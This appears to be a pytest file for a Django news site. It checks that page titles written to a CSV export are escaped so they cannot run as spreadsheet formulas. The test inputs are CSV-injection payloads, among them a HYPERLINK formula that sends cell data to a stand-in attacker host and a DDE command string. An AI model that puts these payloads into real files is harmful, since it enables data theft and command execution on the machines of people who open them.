"""CSV exports open in a spreadsheet as text: a page title never becomes a live formula (OWASP CSV injection)."""

import csv
import io

import pytest
from django.urls import reverse

from tests import factories

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"x")'


def exported_rows(client):
    response = client.get(reverse("editorial:translation_status") + "?export=csv")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


@pytest.mark.parametrize("title", [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"])
def test_a_title_that_looks_like_a_formula_is_exported_as_text(login, moderator, home, title):
    section = factories.NewsIndexPageFactory(parent=home, title=title, slug="chuyen-muc")
    factories.NewsPageFactory(parent=section, title=title, slug="cong-thuc")
    rows = exported_rows(login(moderator))
    article = next(row for row in rows if row[2].endswith("/cong-thuc/"))
    assert article[:2] == ["'" + title, "'" + title]  # the section's title and the page's


def test_ordinary_titles_are_exported_unchanged(login, moderator, news_index):
    factories.NewsPageFactory(parent=news_index, title="Hội nghị 6 tháng đầu năm", slug="hoi-nghi")
    rows = exported_rows(login(moderator))
    assert rows[-1][:3] == ["Tin tức", "Hội nghị 6 tháng đầu năm", "/trang-chu/tin-tuc/hoi-nghi/"]
